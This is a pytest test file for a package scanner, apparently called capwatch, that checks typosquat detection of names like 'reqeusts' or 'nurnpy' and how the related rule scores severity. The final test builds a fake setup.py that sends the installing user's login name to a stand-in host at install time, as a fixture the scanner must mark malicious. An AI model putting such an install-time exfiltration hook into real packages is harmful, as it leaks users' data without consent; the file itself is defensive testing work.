"""Typosquat detection against the bundled popular names, and the rule that uses it."""

from __future__ import annotations

import pytest
from tests.helpers import sdist_bytes

from capwatch.engine import ScanOptions, scan_bytes
from capwatch.model import Severity, Verdict
from capwatch.names import (
    SquatTechnique,
    listed_names,
    max_distance,
    normalize,
    popular_names,
    typosquat_of,
)


@pytest.mark.parametrize(
    ("name", "target", "technique"),
    [
        ("reqeusts", "requests", SquatTechnique.TRANSPOSITION),
        ("reqests", "requests", SquatTechnique.EDIT),
        ("requestss", "requests", SquatTechnique.EDIT),
        ("urlib3", "urllib3", SquatTechnique.EDIT),
        ("colourama", "colorama", SquatTechnique.EDIT),
        ("setuptool", "setuptools", SquatTechnique.EDIT),
        ("typing-extension", "typing-extensions", SquatTechnique.EDIT),
        ("pythondateutil", "python-dateutil", SquatTechnique.SEPARATOR),
        ("Python.Date_Util", "python-dateutil", SquatTechnique.SEPARATOR),
        ("nurnpy", "numpy", SquatTechnique.HOMOGLYPH),
        ("djang0", "django", SquatTechnique.HOMOGLYPH),
        ("c1ick", "click", SquatTechnique.HOMOGLYPH),
        ("python-requests", "requests", SquatTechnique.AFFIX),
        ("py-requests", "requests", SquatTechnique.AFFIX),
        ("requests-python", "requests", SquatTechnique.AFFIX),
        ("numpy-dev", "numpy", SquatTechnique.AFFIX),
        ("pandas-lib", "pandas", SquatTechnique.AFFIX),
        ("pyrequests", "requests", SquatTechnique.AFFIX),
    ],
)
def test_typosquats_are_found(name: str, target: str, technique: SquatTechnique) -> None:
    squat = typosquat_of(name)
    assert squat is not None, name
    assert (squat.target, squat.technique) == (target, technique)


@pytest.mark.parametrize(
    "name",
    [
        # Popular names close to each other, all on the list: never typosquats.
        "requests", "requests-oauthlib", "requests-toolbelt", "boto3", "botocore", "aioboto3",
        "pyyaml", "yaml", "urllib3", "types-urllib3", "python-dateutil", "Python_Dateutil",
        "typing-extensions", "typing", "attrs", "PyYAML", "google-api-python-client",
        # Ordinary names that are not close to anything popular.
        "sizefmt", "my-cool-project", "ssh-client", "browser-stealer", "internal-billing",
        # Short names: a different word, not a typo (edit distance is not used up to 4).
        "sax", "idnb", "rss",
        # Variants of a popular family, not typos of it.
        "flask-login", "types-requests", "opentelemetry-instrumentation-flask",
    ],
)
def test_legitimate_names_are_not_typosquats(name: str) -> None:
    assert typosquat_of(name) is None, typosquat_of(name)


def test_every_listed_name_is_never_a_typosquat() -> None:
    names = listed_names()
    assert len(names) > len(popular_names()) > 500
    assert all(typosquat_of(n) is None for n in names)


def test_established_names_are_spared_but_not_imitated() -> None:
    # Listed after the most popular ones: popular enough to be honest, not a typosquat's target.
    established = listed_names() - popular_names()
    assert {"scapy", "unicorn"} <= established
    assert {"scipy", "gunicorn"} <= popular_names()
    assert typosquat_of("scapy") is None and typosquat_of("unicorn") is None
    # A name one edit from an established project alone is not reported...
    assert typosquat_of("scapyy") is None
    # ...one edit from a popular one is, whatever else is near it.
    squat = typosquat_of("gunicorns")
    assert squat is not None and squat.target == "gunicorn"


def test_projects_ranked_down_to_the_15000th_are_established() -> None:
    # Honest projects among the 15,000 most downloaded, each one edit from a popular name or
    # the popular name with a decoy affix: reported, alone, before the list went that far.
    established = listed_names() - popular_names()
    for name, near in (("ipytest", "pytest"), ("pypyodbc", "pyodbc"), ("isolate", "isodate")):
        assert name in established and near in popular_names()
        assert typosquat_of(name) is None
    assert typosquat_of("pyytest") is not None  # not listed: still a look-alike


def test_length_aware_thresholds() -> None:
    assert [max_distance(n) for n in (3, 4, 5, 8, 9, 20)] == [0, 0, 1, 1, 2, 2]
    assert typosquat_of("tensorfow") is not None  # 9 letters, distance 1
    assert typosquat_of("tnesorfolw") is not None  # distance 2 on a long name
    assert typosquat_of("nmupyy") is None  # distance 2 on a short name is too far


def test_helpers() -> None:
    assert normalize("Foo__Bar.baz") == "foo-bar-baz"


def _scan(
    name: str, files: dict[str, str], options: ScanOptions | None = None
) -> tuple[Verdict, dict[str, Severity]]:
    options = options or ScanOptions()
    info = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: A package\n"
    result = scan_bytes(sdist_bytes({"PKG-INFO": info, **files}, top=f"{name}-1.0"), f"{name}-1.0.tar.gz", options)
    return result.verdict, {f.rule: f.severity for f in result.findings}


def test_a_typosquat_name_alone_is_suspicious_at_most() -> None:
    verdict, rules = _scan("reqeusts", {"reqeusts/__init__.py": "def get(url):\n    return url\n"})
    assert rules == {"CW210": Severity.MEDIUM}
    assert verdict is Verdict.SUSPICIOUS


def test_a_popular_name_with_a_suffix_that_names_an_extension_is_a_note() -> None:
    squat = typosquat_of("requests-tools")
    assert squat is not None and squat.technique is SquatTechnique.AFFIX and squat.extends
    decoy = typosquat_of("requests-latest")
    assert decoy is not None and not decoy.extends
    verdict, rules = _scan("requests-tools", {"requests_tools/__init__.py": "def get(url):\n    return url\n"})
    assert rules == {"CW210": Severity.LOW}
    assert verdict is Verdict.CLEAN
    verdict, rules = _scan("requests-latest", {"requests_latest/__init__.py": "def get(url):\n    return url\n"})
    assert rules == {"CW210": Severity.MEDIUM}
    assert verdict is Verdict.SUSPICIOUS


def test_a_typosquat_that_acts_at_install_is_malicious() -> None:
    setup = (
        "import os, urllib.request\nfrom setuptools import setup\n"
        "urllib.request.urlopen('https://x.example.invalid/c?u=' + os.getlogin())\n"
        "setup(name='reqeusts')\n"
    )
    verdict, rules = _scan("reqeusts", {"setup.py": setup})
    assert rules["CW210"] is Severity.HIGH
    assert verdict is Verdict.MALICIOUS
    off, rules_off = _scan("reqeusts", {"setup.py": setup}, ScanOptions(metadata_signals=False))
    assert "CW210" not in rules_off and off <= verdict
